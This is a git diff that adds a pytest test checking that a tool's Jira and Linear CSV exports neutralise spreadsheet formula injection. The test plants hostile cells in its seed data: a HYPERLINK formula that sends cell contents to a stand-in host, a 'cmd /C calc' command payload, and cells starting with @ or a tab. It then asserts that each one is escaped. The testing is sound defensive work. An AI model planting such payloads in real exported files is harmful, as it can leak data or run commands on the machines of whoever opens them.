@@ -12,6 +12,7 @@ import re
 import shutil
 from pathlib import Path
 
+import pytest
 from conftest import SAMPLE_REPO, git_env, run, run_cli
 
 TODAY = ("--today", "2024-03-01")
@@ -351,3 +352,23 @@ def test_items_of_an_uncleared_security_incident_are_withheld_from_every_format(
     assert (
         sum(item["incident"] == "INC-2024-0015" for item in json.loads(listed.stdout)["items"]) == 3
     )
+
+
+@pytest.mark.parametrize("fmt", ["jira-csv", "linear-csv"])
+def test_no_csv_cell_starts_like_a_spreadsheet_formula(repo: Path, fmt: str) -> None:
+    """OWASP CSV injection: a cell starting with = + - @ tab or CR gets a leading '."""
+    path = repo / SEED
+    text = path.read_text("utf-8").replace(
+        "| 2 | Add latency check to canary analysis (>50% regression = block) | platform-team |",
+        '| 2 | =HYPERLINK("http://x.example/?"&A1,"canary") | @platform-team |',
+    )
+    text = text.replace("| 3 | Build perf test stage", "| 3 | -2+3+cmd /C calc perf stage")
+    path.write_text(text.replace("| 5 | Add connection pool", "| 5 | \tAdd connection pool"))
+    result = run_cli("actions", str(repo), "--format", fmt, *TODAY)
+    assert result.exit_code == 0, result.stderr
+    rows = list(csv.reader(io.StringIO(result.stdout_bytes.decode("utf-8"))))
+    cells = [value for row in rows[1:] for value in row]
+    assert not [value for value in cells if value[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert '\'=HYPERLINK("http://x.example/?"&A1,"canary") (INC-2024-0015 #2)' in cells
+    assert "'@platform-team" in cells
+    assert "'-2+3+cmd /C calc perf stage" in "\n".join(cells)
